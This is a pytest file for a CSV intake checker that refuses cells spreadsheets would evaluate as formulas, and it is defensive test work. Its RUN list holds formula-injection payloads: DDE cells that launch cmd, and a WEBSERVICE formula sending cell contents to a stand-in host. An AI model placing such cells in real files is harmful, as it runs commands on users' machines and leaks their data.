"""Cells of a text that spreadsheets would calculate, and those that only begin like them."""

import io

import pytest

from office.intake.reader import texts
from office.intake.reader.unfit import Unfit

RUN = [
    "=1+1", "= Summe", "=cmd|'/C calc'!A0", '=HYPERLINK("http://192.0.2.1")', "  \t=1+1", "\r=A1",
    "\u00a0=1+1", '"=1+1"', "\uff1d1+1", "=-1+cmd|x!A", "-A1", "+A1", "+$A$1+B2", "-1+A1*2",
    "+cmd|'/C calc'!A0", "-2+3+cmd|'/C calc'!A0", "-A1+cmd|'..'!A0", "+(cmd|..)",
    "-1--cmd|' /C x'!_xlbgnm.A1", "+A1+WEBSERVICE(", '+A1+WEBSERVICE("http://192.0.2.1/"&A1)',
    "- WEBSERVICE (A1)", "-1+WEBDIENST (A1)", "+SERVICEWEB(A1)", "+1+IMPORTXML(A1)", "+SUM(1+1)",
    '-FOO("x")', "+NOW()", "-ANYTHING(B2)", "+'\\\\192.0.2.1\\[b.xlsx]S'!A1", "-S!A1",
    "@SUM(1+1)*cmd|x!A0", "@A1|x", "@HYPERLINK(A1)",
]  # fmt: skip
SHOWN = [
    "-5", "-5 %", "-5%", "-1.5e3", "+1 000,50 €", "-12.3 Mio.", "-0,5", "-5 bis +3", "+/- 3", "(7)",
    "+32 2 123 45 67", "+43-1-234/5", "+32 (0)2 123", "+49 30/1234-0", "-", "--", "-- keine --",
    "- a list item", "-without a gap", "- item (first)", "- Maßnahme(n) geplant", "-Schüler(innen)",
    "- Abt.(3)", "- Bericht (2024)", "- Schulen (2+1)", "- Emissionen (CO2)", "- Team (R&D)",
    "- Verordnung (EU) 2016/679", "- Mairie (l'hôtel de ville)", "- n=12 (4 %)", "- A4-Format",
    "- https://example.org/?a=1&b=2", "- ja | nein", "- Achtung! Neu", "- 12:30 Uhr",
    '- Projekt (genannt "Zuhause")', "@home", "@home (Wien)", "@stadt, @land", "====", "=5",
    '="00123"', "'=1+1", "Rat = 5", "a=b|c!d",
]  # fmt: skip


def check(text):
    texts.check("csv", io.BytesIO(text.encode()))


def quoted(cell):
    return '"' + cell.replace('"', '""') + '"'


@pytest.mark.parametrize("cell", RUN)
@pytest.mark.parametrize("delimiter", [";", ",", "\t"])
def test_a_cell_that_would_run_is_refused_with_its_row(cell, delimiter):
    with pytest.raises(Unfit) as unfit:
        check(f"a{delimiter}b\r\n1{delimiter}{quoted(cell)}\r\n")

    assert (unfit.value.code, unfit.value.figures["row"]) == ("formula", 2)


@pytest.mark.parametrize("delimiter", [";", ",", "\t"])
def test_what_people_write_is_taken(delimiter):
    check("\r\n".join(f"{quoted(cell)}{delimiter}{quoted(cell)}" for cell in SHOWN))


@pytest.mark.parametrize(
    "text",
    [
        "sep=|\n1|=1+1\n",  # parted as its first line says
        '"sep=^"\n1^@SUM(1)\n',
        "+1,5*WEBDIENST(A1)\n",  # one cell where a comma is part of a number
        "+1,5*cmd|'/C calc'!A0\n",
        "=1\n=1+1\n",
    ],
)
def test_a_formula_is_found_however_cells_are_parted(text):
    with pytest.raises(Unfit, match="formula"):
        check(text)
